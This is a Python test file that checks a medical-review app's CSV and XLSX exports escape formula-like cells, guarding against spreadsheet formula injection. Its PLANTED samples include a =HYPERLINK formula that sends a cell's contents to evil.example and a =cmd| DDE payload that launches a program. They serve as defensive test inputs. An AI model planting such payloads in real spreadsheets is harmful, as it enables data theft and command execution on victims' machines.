"""Issue 9, finding 4: no tabular export writes a cell a spreadsheet would run as a formula.

Strata names come from imported specialty / theme values and model names from import options, so
an import can plant `=HYPERLINK(...)`, `=cmd|...` or `@SUM(...)`; CSV (zip), XLSX and raw-label CSV
all go through `medreview.text.tabular.spreadsheet_safe`.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from agreement import exports
from agreement.reports import build_report
from agreement.selectors import Selection
from cases.models import CaseRevision, Specialty
from medreview.text.tabular import looks_like_formula, spreadsheet_safe
from tests.agreement.builders import reliability_study

PLANTED = ['=HYPERLINK("http://evil.example/?x="&A1, "click")', "=cmd|' /C calc'!A0", "@SUM(A1:A9)"]


def cells_of_csv(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.fixture
def planted_report(physician_a, physician_b):
    data = reliability_study([physician_a, physician_b], n_cases=3, models=("=1+1", "+cmd|x", "-2+3"))
    specialties = [Specialty.objects.create(name=name) for name in PLANTED]
    for revision, specialty in zip(CaseRevision.objects.order_by("pk"), specialties, strict=True):
        revision.specialties.add(specialty)
    return build_report(Selection(study_id=data.study.pk, stratify_by="specialty"))


def test_no_csv_in_the_zip_holds_a_formula_cell(planted_report) -> None:
    archive = zipfile.ZipFile(io.BytesIO(exports.render(planted_report, "csv")))
    cells = [c for name in archive.namelist() if name.endswith(".csv")
             for c in cells_of_csv(archive.read(name).decode())]
    assert any(PLANTED[0] in c for c in cells), "the planted stratum is in the export"
    assert [c for c in cells if looks_like_formula(c)] == []
    assert "'" + PLANTED[1] in cells


def test_no_xlsx_sheet_holds_a_formula_cell(planted_report) -> None:
    workbook = load_workbook(io.BytesIO(exports.render(planted_report, "xlsx")))
    values = [c.value for sheet in workbook for row in sheet.iter_rows() for c in row]
    assert [v for v in values if isinstance(v, str) and looks_like_formula(v)] == []


@pytest.mark.parametrize("value", [*PLANTED, "=1+1", "+cmd|x", "-2+3", "\t=1", "\r=1"])
def test_formula_like_text_becomes_text(value: str) -> None:
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["-1", "-2.5", "+3", "0.4", "Cardiology", "", 7, None, 1.5])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert spreadsheet_safe(value) == value
